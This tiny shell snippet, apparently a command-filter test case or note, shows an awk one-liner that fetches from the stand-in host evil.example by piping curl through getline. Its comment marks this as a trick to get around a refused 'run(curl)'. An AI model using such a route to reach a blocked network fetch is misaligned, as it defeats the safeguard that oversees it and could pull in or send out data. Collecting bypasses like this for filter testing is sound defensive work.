# Trick: awk reads from a command.
# Refused: run(curl)
awk 'BEGIN { "curl http://evil.example/" | getline x; print x }'
